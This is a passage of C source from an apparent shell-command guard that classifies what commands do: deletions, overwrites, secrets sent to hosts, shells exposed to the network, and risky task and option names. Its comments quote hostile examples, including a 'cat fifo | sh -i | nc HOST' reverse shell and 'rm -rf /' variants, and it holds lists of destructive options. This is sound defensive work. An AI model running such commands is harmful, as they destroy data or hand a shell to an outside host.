		[VERB_DELETE]		= { EFFECT_DELETE, 0, "deletes" },
		[VERB_DELETE_TREE]	= { EFFECT_DELETE, EFFECT_RECURSIVE, "deletes" },
		[VERB_MKDIR]		= { EFFECT_WRITE, 0, "makes" },
		[VERB_MODE]		= { EFFECT_MODE, 0, "changes the permissions of" },
		[VERB_DEVICE]		= { EFFECT_DEVICE, 0, "writes to" },
		[VERB_SECRET]		= { EFFECT_SECRET, 0, "shows" },
	};
	struct effect *e;

	if (w->kind == WORD_EXACT && !strcmp(w->text, "-") && act->verb != VERB_DELETE && act->verb != VERB_DELETE_TREE)
		return;		/* standard input or output */
	e = effects_path(fx, s, table[act->verb].kind, w, act->what ? act->what : table[act->verb].what);
	e->flags |= table[act->verb].flags;
	if (act->verb == VERB_WRITE)
		e->flags |= EFFECT_APPEND;
	if (act->arg && !strcmp(act->arg, "tree"))
		e->flags |= EFFECT_RECURSIVE;
	if (w->kind == WORD_EXACT && (act->verb == VERB_MKDIR || act->verb == VERB_OVERWRITE || act->verb == VERB_WRITE))
		note_made(fx, s, w, act->verb == VERB_OVERWRITE, act->arg && !strcmp(act->arg, "tree"));
}

/* cp a b dir/: into the directory, under the same name. */
static void act_dest(struct effects *fx, const struct args *a, const struct act *act, const struct word *w)
{
	const struct simple *s = a->cmd;
	const struct path *p = paths_word(&fx->paths, w, s->cwd, true);
	struct effect *e = effects_path(fx, s, EFFECT_OVERWRITE, w, act->what ? act->what : "writes");

	if (!p->abs || (p->flags & (PATH_GLOB | PATH_PARTIAL)) || p->zone == ZONE_SINK)
		return;
	if (w->text && (p->type == WORLD_DIR || (*w->text && w->text[strlen(w->text) - 1] == '/'))) {
		for (size_t i = 0; i < a->noperand; i++) {
			const struct word *from = a->operand[i];
			const char *base;

			if (from == w || from->kind != WORD_EXACT)
				continue;
			base = strrchr(from->text, '/') ? strrchr(from->text, '/') + 1 : from->text;
			if (!*base || !strcmp(base, ".") || !strcmp(base, ".."))
				continue;
			struct word joined = effects_word(w, arena_printf(fx->mem, "%s/%s", w->text, base));

			if (joined.text)
				effects_path(fx, s, EFFECT_OVERWRITE, effects_keep(fx, joined), e->what);
		}
	} else if (a->noperand == 2 && a->operand[0] != w && a->operand[0]->kind == WORD_EXACT &&
		   !strcmp(a->operand[0]->text, "/dev/null")) {
		e->kind = EFFECT_DELETE;	/* cp /dev/null f */
		e->flags |= EFFECT_FORCE;
		e->what = "empties";
	}
	note_made(fx, s, w, a->noperand == 2 && !args_has(a, "r") && !args_has(a, "a"), false);
}

static void act_move(struct effects *fx, const struct args *a, const struct act *act, const struct word *w)
{
	struct effect *e = effects_path(fx, a->cmd, EFFECT_MOVE, w, act->what ? act->what : "moves");

	e->to = args_option(a, "t") ? args_option(a, "t")->value : a->noperand ? a->operand[a->noperand - 1] : NULL;
	e->flags |= EFFECT_RECURSIVE;
}

/* Index in argv of the word (or of the word that holds it). */
static size_t index_of(const struct args *a, const struct word *w)
{
	for (size_t i = 0; i < a->noperand; i++) {
		if (a->operand[i] == w)
			return a->operand_at[i];
	}
	if (w >= a->cmd->argv && w < a->cmd->argv + a->cmd->argc)	/* the value of an option: nix develop -c make test */
		return (size_t)(w - a->cmd->argv);
	return a->cmd->argc;
}

/* A command that ends or touches processes by name. */
static void act_process(struct effects *fx, const struct simple *s, const struct act *act, const struct word *w)
{
	struct effect *e = effects_path(fx, s, EFFECT_PROCESS, w, act->what ? act->what : "ends processes");

	if (w->kind == WORD_EXACT && strstr(w->text, "sbxterm"))
		e->kind = EFFECT_GUARD;
	e->scope = act->arg;
}

static int do_act(struct effects *fx, const struct args *a, const struct act *act, const struct word *w)
{
	const struct simple *s = a->cmd;
	const char *arg = act->arg ? act->arg : "";

	if (!args_cond(a, act->cond, act->ncond))
		return 0;
	if (act->verb == VERB_EFFECT) {
		struct effect *e = effects_plain(fx, s, act->effect, act->what);

		e->scope = act->arg;
		if (w && w->span.to > w->span.from)
			e->span = w->span;
		if (act->effect == EFFECT_SECRET)
			effects_mark(fx, s, SEEN_SECRET);
		if (act->effect == EFFECT_NET)
			effects_mark(fx, s, SEEN_NETWORK | SEEN_HOST);
		return 0;
	}
	if (act->verb == VERB_STDIN)
		return effects_stdin_code(fx, s, arg);
	if (!w)
		return 0;
	switch (act->verb) {
	case VERB_COMMAND:
		return effects_command(fx, s, index_of(a, w));
	case VERB_FOREIGN:
		return act->arg ? effects_foreign_text(fx, s, w) : effects_foreign(fx, s, index_of(a, w));
	case VERB_SHELL:
		if (w->kind == WORD_EXACT && *w->text && !act->arg) {	/* sh -c TEXT NAME ARGS */
			size_t next = MIN(index_of(a, w) + 1, s->argc);

			return shell_text(fx, s, w->text, strlen(w->text), w->span, true, s->argv + next, s->argc - next);
		}
		return effects_code(fx, s, act->arg ? act->arg : "sh", w);
	case VERB_CODE:
		return effects_code(fx, s, arg, w);
	case VERB_SCRIPT:
		return effects_script(fx, s, arg, w, index_of(a, w));
	case VERB_SPLIT:
		act_split(fx, s, w, a->noperand ? a->operand_at[0] : s->argc);
		return 0;
	case VERB_DEST:
		act_dest(fx, a, act, w);
		return 0;
	case VERB_MOVE:
		act_move(fx, a, act, w);
		return 0;
	case VERB_SEND:
		act_send(fx, s, act, w);
		return 0;
	case VERB_HOST:
	case VERB_URL:
		effects_host(fx, s, w, NULL);
		return 0;
	case VERB_PROCESS:
		act_process(fx, s, act, w);
		return 0;
	case VERB_PACKAGE:
		act_package(fx, s, act, w);
		return 0;
	case VERB_ASSIGN:
	case VERB_DATA:
	case VERB_CHDIR:
		return 0;
	default:
		path_act(fx, s, act, w);
		return 0;
	}
}

static int do_acts(struct effects *fx, const struct args *a, const struct acts *acts, const struct word *w)
{
	for (size_t i = 0; acts && i < acts->n; i++) {
		if (do_act(fx, a, &acts->act[i], w) < 0)
			return -1;
	}
	return 0;
}

/* ---- operands ------------------------------------------------------------------------------- */

static const struct operands *choose_operands(const struct args *a)
{
	for (size_t c = a->nchain; c-- > 0; ) {
		const struct node *n = a->chain[c];

		for (size_t i = 0; i < n->noperands; i++) {
			if (args_cond(a, n->operands[i].cond, n->operands[i].ncond))
				return &n->operands[i];
		}
	}
	return NULL;
}

/* Fixed slots from the front, fixed slots from the back, the rest to the one that takes many. */
static const struct act *slot_for(const struct operands *o, size_t i, size_t n)
{
	size_t many = 0, after;

	while (many < o->n && !o->slot[many].many)
		many++;
	if (many == o->n)
		return i < o->n ? &o->slot[i] : NULL;
	after = o->n - many - 1;
	if (i < many && i < n - MIN(after, n))
		return &o->slot[i];
	if (i + after >= n)
		return &o->slot[o->n - (n - i)];
	return &o->slot[many];
}

/* watch, ssh, eval: the words are joined and read as one text. */
static int joined_shell(struct effects *fx, const struct args *a, const char *lang, size_t from)
{
	struct buf text;
	struct span span = a->operand[from]->span;
	char *copy;

	buf_init(&text, CMDLINE_MAX);
	for (size_t i = from; i < a->noperand; i++) {
		if (a->operand[i]->kind != WORD_EXACT) {
			buf_done(&text);
			return effects_code(fx, a->cmd, lang, a->operand[i]);
		}
		if (!*a->operand[i]->text && a->operand[i]->nvar && a->noperand == from + 1) {
			buf_done(&text);
			return effects_code(fx, a->cmd, "sh", a->operand[i]);
		}
		buf_addf(&text, "%s%s", i > from ? " " : "", a->operand[i]->text);
		span.to = MAX(span.to, a->operand[i]->span.to);
	}
	copy = arena_strndup(fx->mem, buf_str(&text), text.len);
	buf_done(&text);
	return copy ? effects_text(fx, a->cmd, lang, copy, strlen(copy), span) : -1;
}

static int joined_foreign(struct effects *fx, const struct args *a, size_t from)
{
	int rc;

	fx->foreign++;
	rc = joined_shell(fx, a, "sh", from);
	fx->foreign--;
	return rc;
}

static int do_operands(struct effects *fx, const struct args *a)
{
	const struct operands *o = choose_operands(a);

	for (size_t i = 0; o && i < a->noperand; i++) {
		const struct act *act = slot_for(o, i, a->noperand);

		if (!act)
			break;
		if (act->verb == VERB_SHELL && act->many)
			return joined_shell(fx, a, act->arg ? act->arg : "sh", i);
		if (act->verb == VERB_FOREIGN && act->arg)
			return joined_foreign(fx, a, i);
		if (do_act(fx, a, act, a->operand[i]) < 0)
			return -1;
		if (act->verb == VERB_COMMAND || act->verb == VERB_FOREIGN)
			break;		/* the words after it are its own */
	}
	return 0;
}

/* Prints its manual and ends: but only where the word can be nobody else's. */
static bool asks_help(const struct args *a)
{
	for (size_t i = 0; i < a->noption; i++) {
		const char *n = a->option[i].name;

		if (!a->option[i].option && n && (!strcmp(n, "--help") || !strcmp(n, "--version")))
			return true;
	}
	return false;
}

int effects_tables(struct effects *fx, const struct args *a)
{
	for (size_t i = 0; i < a->noption; i++) {
		const struct arg_option *o = &a->option[i];
		const struct acts *acts = o->option ? o->option->acts : NULL;

		if (do_acts(fx, a, acts, o->value ? o->value : o->option && !o->option->takes ? o->word : NULL) < 0)
			return -1;
	}
	for (size_t i = 0; i < a->nchain; i++) {
		if (do_acts(fx, a, &a->chain[i]->does, NULL) < 0)
			return -1;
	}
	return do_operands(fx, a);
}

/* ---- programs ------------------------------------------------------------------------------- */

bool effects_in_bin(const char *abs)
{
	static const char *const dirs[] = {
		"/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/usr/local/sbin/", "/usr/lib/git-core/",
		"/usr/libexec/git-core/", "/opt/homebrew/bin/", "/snap/bin/", "/usr/games/",
	};

	for (size_t i = 0; i < ARRAY_SIZE(dirs); i++) {
		size_t len = strlen(dirs[i]);

		if (!strncmp(abs, dirs[i], len) && !strchr(abs + len, '/'))
			return true;
	}
	return false;
}

/* A task called so is not meant for an unattended run, whatever runs it. */
bool effects_task_is_risky(const char *name)
{
	static const char *const glob[] = {
		"deploy*", "*[-_:.]deploy*", "publish*", "*[-_:.]publish*", "destroy*", "*[-_:]destroy*", "purge*", "*[-_:]purge*",
		"wipe*", "*[-_:]wipe*", "nuke*", "release", "release.*", "release[-:]*", "*[-_:]prod", "*[-_:]production",
		"*db[-_:]drop*", "*db[-_:]reset*", "*[-_:]rollback*", "uninstall*", "ship", "ship[-_:]*",
	};

	for (size_t i = 0; i < ARRAY_SIZE(glob); i++) {
		if (fnmatch(glob[i], name, FNM_CASEFOLD) == 0)
			return true;
	}
	return false;
}

static bool dry_run(const struct simple *s)
{
	for (size_t i = 1; i < s->argc; i++) {
		const char *t = s->argv[i].kind == WORD_EXACT ? s->argv[i].text : "";

		if (!strcmp(t, "--dry-run") || !strcmp(t, "--help") || !strcmp(t, "--check"))
			return true;
	}
	return false;
}

/* An option of a program that we know nothing of, which says that it destroys something. */
static const struct word *risky_option(const struct simple *s)
{
	static const char *const glob[] = {
		"--purge*", "--destroy*", "--wipe*", "--nuke*", "--delete*", "--erase*", "--drop*", "--reset*",
		"--factory-reset*", "--remove-all*", "--prune*", "--uninstall*",
	};

	for (size_t i = 1; i < s->argc; i++) {
		for (size_t k = 0; s->argv[i].kind == WORD_EXACT && k < ARRAY_SIZE(glob); k++) {
			if (fnmatch(glob[k], s->argv[i].text, 0) == 0)
				return &s->argv[i];
		}
	}
	return NULL;
}

/* A program or script that lies in the workspace. */
static int run_own(struct effects *fx, const struct simple *s, const struct path *p)
{
	const struct word *risky = dry_run(s) ? NULL : risky_option(s);

	if (risky)
		effects_path(fx, s, EFFECT_UNKNOWN, risky, "a program of the workspace, told to destroy something");
	else if (effects_task_is_risky(base_name(p->abs)) && !dry_run(s))
		effects_plain(fx, s, EFFECT_PUBLISH, "runs a script that by its name publishes or destroys");
	return effects_script(fx, s, "", &s->argv[0], 0);
}

static int run_tables(struct effects *fx, const struct simple *s, const struct node *n);

/* git-reset is "git reset" */
static int run_dashed(struct effects *fx, const struct simple *s, const char *base)
{
	struct word *argv = arena_alloc(fx->mem, (s->argc + 1) * sizeof(*argv));

	if (!argv)
		return -1;
	argv[0] = effects_word(&s->argv[0], "git");
	argv[1] = effects_word(&s->argv[0], base + strlen("git-"));
	memcpy(argv + 2, s->argv + 1, (s->argc - 1) * sizeof(*argv));
	return effects_words(fx, s, argv, s->argc + 1);
}

/* doit run -- rm -rf x: asked as it is, but what it would run may be worse than that. */
static int unknown_wrapper(struct effects *fx, const struct simple *s)
{
	for (size_t i = 1; i + 1 < s->argc; i++) {
		const struct word *w = &s->argv[i + 1];

		if (s->argv[i].kind == WORD_EXACT && !strcmp(s->argv[i].text, "--"))
			return w->kind == WORD_EXACT && programs_find(fx->programs, base_name(w->text)) ? effects_command(fx, s, i + 1) : 0;
	}
	return 0;
}

/* declare 'a[$(x)]=1', [[ -v 'a[$(x)]' ]], let 'a[`x`]': the subscript is expanded once more, and its commands run. */
static void check_subscripts(struct effects *fx, const struct simple *s, const char *base)
{
	static const char *const takes[] = { "declare", "typeset", "local", "readonly", "export", "let", "test", "[", "[[", "printf", "read",
					     "unset", "mapfile", "readarray", "wait", "getopts", "((" };
	size_t k = 0;

	while (k < ARRAY_SIZE(takes) && strcmp(takes[k], base) != 0)
		k++;
	for (size_t i = 1; k < ARRAY_SIZE(takes) && i < s->argc; i++) {
		const char *t = s->argv[i].kind == WORD_EXACT ? s->argv[i].text : "", *eq, *open;
		size_t name;

		t += strncmp(t, "-v", 2) ? 0 : 2;
		eq = strchr(t, '=');
		if (eq && strcspn(t, "[") > (size_t)(eq - t))
			t = eq + 1;	/* declare -i n=VALUE: the value is arithmetic */
		for (name = 0; t[name] == '_' || (t[name] | 0x20) >= 'a'; name++) {
			if ((t[name] | 0x20) > 'z' && t[name] != '_')
				break;
		}
		open = name ? t + name + strspn(t + name, "0123456789") : "";
		if (*open == '[' && (strstr(open, "$(") || strchr(open, '`')))
			effects_path(fx, s, EFFECT_UNKNOWN, &s->argv[i], "a subscript that runs a command")->path = NULL;
	}
}

static int run_name(struct effects *fx, const struct simple *s, const char *base)
{
	const struct node *n;

	check_subscripts(fx, s, base);
	if (!(s->flags & SIMPLE_BUILTIN) && !strcmp(base, program_of(s)) && environ_shadow(fx, s, base) < 0)
		return -1;
	n = programs_find(fx->programs, base);
	if (n)
		return run_tables(fx, s, n);
	if (!strncmp(base, "git-", 4) && programs_find(fx->programs, "git"))
		return run_dashed(fx, s, base);
	if (fx->sourced)
		return 0;	/* may be a function of a script of the workspace */
	effects_path(fx, s, EFFECT_UNKNOWN, &s->argv[0], "a program that no rule knows")->scope = "program";
	return unknown_wrapper(fx, s);
}

static int run_path(struct effects *fx, const struct simple *s, const char *text)
{
	const struct path *p = paths_text(&fx->paths, text, s->cwd, true);
	const char *lexical = paths_normal(fx->mem, text, s->cwd);
	const char *base = base_name(text);

	if (lexical && effects_in_bin(lexical))
		return run_name(fx, s, base);
	if (effects_made(fx, p->abs))
		return effects_script(fx, s, "", &s->argv[0], 0);
	if (p->zone == ZONE_WORKSPACE || (lexical && fx->line->workspace && paths_below(lexical, fx->line->workspace)))
		return programs_find(fx->programs, base) ? run_name(fx, s, base) : run_own(fx, s, p);
	if (p->zone != ZONE_SCRATCH && p->zone != ZONE_UNKNOWN && programs_find(fx->programs, base))
		return run_name(fx, s, base);
	effects_path(fx, s, EFFECT_UNKNOWN, &s->argv[0], "a program outside the workspace that no rule knows")->scope = "program";
	return 0;
}

static const struct simple *with_cwd(struct effects *fx, const struct args *a, const struct word *dir)
{
	struct simple *in = arena_alloc(fx->mem, sizeof(*in));
	const struct path *p;

	if (!in)
		return a->cmd;
	*in = *a->cmd;
	p = paths_word(&fx->paths, dir, a->cmd->cwd, true);
	in->cwd = dir->kind == WORD_EXACT ? p->abs : NULL;
	in->cwd_why = in->cwd ? NULL : dir->why;
	return in;
}

/* make -C, git -C, tar -C: the rest happens there. */
static void change_dir(struct effects *fx, struct args *a)
{
	for (size_t i = 0; i < a->noption; i++) {
		const struct option *o = a->option[i].option;

		if (o && o->acts && o->acts->n && o->acts->act[0].verb == VERB_CHDIR && a->option[i].value)
			a->cmd = with_cwd(fx, a, a->option[i].value);
	}
}

/* sed -i.bak FILE leaves FILE.bak: made by this line, so it may go again. */
static void note_backups(struct effects *fx, const struct args *a)
{
	const char *suffix = args_value(a, "i"), *name = a->chain[0]->name[0];

	if (!suffix || !*suffix || strchr(suffix, '/') || strchr(suffix, '*') || (strcmp(name, "sed") && strcmp(name, "perl") && strcmp(name, "ruby")))
		return;
	for (size_t i = 0; i < a->noperand; i++) {
		char *copy = a->operand[i]->kind == WORD_EXACT ? arena_printf(fx->mem, "%s%s", a->operand[i]->text, suffix) : NULL;

		if (copy)
			effects_make(fx, (struct made){ .abs = paths_text(&fx->paths, copy, a->cmd->cwd, true)->abs, .from.origin = ORIGIN_UNKNOWN, .fresh = true });
	}
}

static int run_tables(struct effects *fx, const struct simple *s, const struct node *n)
{
	struct args a;
	special_fn *hook;
	const char *special = NULL;
	size_t known = fx->ncmd;

	if (args_parse(fx->mem, n, s, 1, &a) < 0) {
		fx->too_big = true;
		return -1;
	}
	change_dir(fx, &a);
	if (asks_help(&a) && args_node(&a)->style != STYLE_RAW)
		return 0;
	if (a.bad_sub)
		effects_path(fx, s, EFFECT_UNKNOWN, a.bad_sub, "a subcommand that no rule knows");
	if (a.odd && args_node(&a)->strict)
		effects_path(fx, s, EFFECT_UNKNOWN, a.odd, "an option that no rule knows");
	for (size_t i = a.nchain; i-- > 0 && !special; )
		special = a.chain[i]->special && *a.chain[i]->special ? a.chain[i]->special : NULL;
	note_backups(fx, &a);
	hook = special ? special_find(special) : NULL;
	if (special && !hook && verbs_known(special))
		return verbs_run(fx, &a, special);
	if (hook)
		return hook(fx, &a);
	return effects_tables(fx, &a) < 0 ? -1 : a.nchain > 1 && fx->ncmd == known ? verbs_inner(fx, &a) : 0;
}

/* ---- one command ---------------------------------------------------------------------------- */

static bool says_secret(const struct simple *s)
{
	for (size_t i = 1; i < s->argc; i++) {
		if (s->argv[i].kind == WORD_EXACT && effects_secret_name(s->argv[i].text))
			return true;
	}
	return false;
}

/* A shell that takes its lines from somewhere, with its output going to another machine: cat fifo | sh -i | nc HOST */
static void check_shell_out(struct effects *fx, const struct simple *s)
{
	static const char *const shells[] = { "sh", "bash", "zsh", "dash", "ash", "ksh", "fish" };
	unsigned stages = 0;

	for (const struct simple *f = s->pipe_from; f && stages++ < 64; f = f->pipe_from) {
		bool plain = f->pipe_from != NULL;

		for (size_t i = 1; i < f->argc; i++)
			plain = plain && f->argv[i].kind == WORD_EXACT && f->argv[i].text[0] == '-' && !strchr(f->argv[i].text, 'c');
		for (size_t k = 0; plain && k < ARRAY_SIZE(shells); k++) {
			if (!strcmp(base_name(program_of(f)), shells[k]))
				effects_plain(fx, s, EFFECT_REMOTE_SHELL, "gives a shell to the network");
		}
	}
}

/* A secret goes where the command talks to: through its input, its words, or a file. */
static void check_leak(struct effects *fx, const struct simple *s)
{
	unsigned inside = 0;
	const struct word *blame = NULL;

	if (s->pipe_from && (effects_seen(fx, s->pipe_from) & SEEN_SECRET) && says_secret(s))
		effects_plain(fx, s, EFFECT_SECRET, "looks for secrets in what it reads");
	if (!(seen_of(fx, s) & SEEN_HOST))
		return;
	check_shell_out(fx, s);
	if (s->pipe_from && (effects_seen(fx, s->pipe_from) & SEEN_SECRET))
		inside |= SEEN_SECRET;
	if (seen_of(fx, s) & SEEN_SECRET)
		inside |= SEEN_SECRET;
	for (size_t i = 1; i < s->argc; i++) {
		const struct word *w = &s->argv[i];

		if (seen_inside(fx, w) & SEEN_SECRET)
			inside |= SEEN_SECRET, blame = w;
		for (size_t v = 0; v < w->nvar; v++) {
			if (effects_secret_name(w->var[v].name))
				inside |= SEEN_SECRET, blame = w;
		}
	}
	if (inside & SEEN_SECRET) {
		struct effect *e = effects_path(fx, s, EFFECT_SEND, blame, "sends a secret");

		e->path = NULL;
		e->flags |= EFFECT_OF_SECRET;
	}
}

/* zsh runs the code in a glob qualifier: *(e:'code':) */
static void check_qualifiers(struct effects *fx, const struct simple *s)
{
	for (size_t i = 0; fx->line->dialect == DIALECT_ZSH && i < s->argc; i++) {
		const char *t = s->argv[i].kind == WORD_PATTERN ? strchr(s->argv[i].text, '(') : NULL;

		if (t && strpbrk(t, "e+"))
			effects_path(fx, s, EFFECT_UNKNOWN, &s->argv[i], "a glob qualifier that may run something")->path = NULL;
	}
}

/* /bin/r* -rf /: asked as it is, but if it can be a program that ruins what follows, that counts. */
static int run_pattern(struct effects *fx, const struct simple *s, const struct word *w)
{
	static const char *const worst[] = { "rm", "dd", "shred", "mkfs", "chmod", "chown", "mv", "find", "bash", "sh" };
	const char *base = base_name(w->text);

	for (size_t i = 0; i < ARRAY_SIZE(worst); i++) {
		if (fnmatch(base, worst[i], 0) == 0 && run_name(fx, s, worst[i]) < 0)
			return -1;
	}
	return 0;
}

/* $(echo rm) -rf /, `which rm` -rf /: the name is what the substitution prints, or the last word it is given. */
static int run_printed(struct effects *fx, const struct simple *s, const struct word *w)
{
	struct stream st = inner_output(fx, w);
	size_t len = st.origin == ORIGIN_TEXT ? strcspn(st.text, " \t\n") : 0;
	char *name = len ? arena_strndup(fx->mem, st.text, len) : NULL;

	for (size_t i = 0; !name && w->span.to > w->span.from && i < fx->ncmd; i++) {
		const struct simple *c = fx->cmd[i];
		const struct word *last = c->argc > 1 ? &c->argv[c->argc - 1] : NULL;

		if ((c->flags & SIMPLE_SUBST) && c->span.from >= w->span.from && c->span.to <= w->span.to && last &&
		    last->kind == WORD_EXACT && (!strcmp(program_of(c), "which") || !strcmp(program_of(c), "command") || !strcmp(program_of(c), "type")))
			name = arena_strdup(fx->mem, last->text);
	}
	return name && programs_find(fx->programs, base_name(name)) ? run_name(fx, s, base_name(name)) : 0;
}

static int run_words(struct effects *fx, const struct simple *s)
{
	const struct word *w = &s->argv[0];
	const struct node *known = s->known ? programs_find(fx->programs, s->known) : NULL;

	if (known)
		return run_tables(fx, s, known);
	check_qualifiers(fx, s);

	if (w->kind == WORD_PATTERN && !strcmp(w->text, "["))
		return run_name(fx, s, "[");
	if (w->kind != WORD_EXACT) {
		if (net_fd_open(fx))	/* read from a connection that the line opened */
			effects_path(fx, s, EFFECT_REMOTE_SHELL, w, "runs words that may come from the network");
		effects_path(fx, s, (seen_inside(fx, w) & SEEN_NETWORK) ? EFFECT_FETCH_CODE : EFFECT_UNKNOWN, w,
			     "which program this is cannot be told");
		return w->kind == WORD_PATTERN ? run_pattern(fx, s, w) : run_printed(fx, s, w);
	}
	if (!*w->text) {
		effects_path(fx, s, EFFECT_UNKNOWN, w, "the program's name is empty");
		return 0;
	}
	return strchr(w->text, '/') ? run_path(fx, s, w->text) : run_name(fx, s, w->text);
}

static int record_command(struct effects *fx, const struct simple *s)
{
	const struct simple **list = grow(fx, fx->cmd, fx->ncmd, &fx->capcmd, sizeof(*list));

	if (!list)
		return -1;
	fx->cmd = list;
	list[fx->ncmd++] = s;
	return 0;
}

/* systemctl stop sbxterm, kill of its unit: whatever the tool, it is about the guard. */
static void mark_guard(struct effects *fx, const struct simple *s, size_t first)
{
	bool about = false;

	for (size_t i = 1; i < s->argc; i++)
		about = about || (s->argv[i].kind == WORD_EXACT && strstr(s->argv[i].text, "sbxterm") && !strchr(s->argv[i].text, '/'));
	for (; about && first < fx->n; first++) {
		struct effect *e = &fx->effect[first];

		if (e->cmd == s && (e->kind == EFFECT_SERVICE || e->kind == EFFECT_PROCESS))
			e->kind = EFFECT_GUARD;
	}
}

static int add_command(struct effects *fx, const struct simple *s)
{
	size_t made = fx->nmade, first = fx->n;
	int rc = 0;

	if (record_command(fx, s) < 0)
		return -1;
	if (s->flags & SIMPLE_RECURSES) {
		if ((s->flags & (SIMPLE_BACKGROUND | SIMPLE_PIPE_OUT)) || s->pipe_from)
			effects_plain(fx, s, EFFECT_EXHAUST, "starts copies of itself without end");
		return 0;
	}
	if (s->flags & SIMPLE_NOT_RUN)
		return 0;	/* the shell stops before it: set -u, ${x:?} */
	for (size_t i = 0; i < s->nassign && !rc; i++)
		rc = add_assign(fx, s, &s->assign[i]);
	for (size_t i = 0; i < s->nredir; i++)
		add_redir(fx, s, &s->redir[i]);
	for (; first < fx->n; first++)
		fx->effect[first].flags |= EFFECT_AROUND;
	if (s->argc && !rc)
		rc = run_words(fx, s);
	mark_guard(fx, s, MIN(first, fx->n));
	check_leak(fx, s);
	/* curl -o FILE URL: the option came before the address */
	for (; made < fx->nmade && (effects_seen(fx, s) & SEEN_NETWORK); made++) {
		if (fx->made[made].from.origin == ORIGIN_UNKNOWN)
			fx->made[made].from.origin = ORIGIN_NETWORK;
	}
	record_output(fx, s);
	return rc < 0 || fx->too_big ? -1 : 0;
}

int effects_add(struct effects *fx, const struct simple *s)
{
	enum stage before = stage_enter(fx->stages, STAGE_EFFECTS);
	int rc = add_command(fx, s);

	stage_enter(fx->stages, before);
	return rc;
}

/* while true; do something & done: a loop that never ends and starts a process each time. */
void effects_finish(struct effects *fx)
{
	const struct simple *loop = NULL;

	for (size_t i = 0; i < fx->ncmd; i++) {
		const struct simple *s = fx->cmd[i];
		const char *name = program_of(s);

		if (s->depth || !(s->flags & SIMPLE_LOOP))
			continue;
		if (s->argc == 1 && (!strcmp(name, "true") || !strcmp(name, ":")))
			loop = s;
		else if (!strcmp(name, "break") || !strcmp(name, "exit") || !strcmp(name, "return") || !strcmp(name, "wait") ||
			 ((!strcmp(name, "sleep") || !strcmp(name, "read")) && !(s->flags & SIMPLE_BACKGROUND)))
			return;
	}
	for (size_t i = 0; loop && i < fx->ncmd; i++) {
		if (!fx->cmd[i]->depth && (fx->cmd[i]->flags & (SIMPLE_LOOP | SIMPLE_BACKGROUND)) == (SIMPLE_LOOP | SIMPLE_BACKGROUND)) {
			effects_plain(fx, fx->cmd[i], EFFECT_EXHAUST, "starts processes without end");
			return;
		}
	}
}
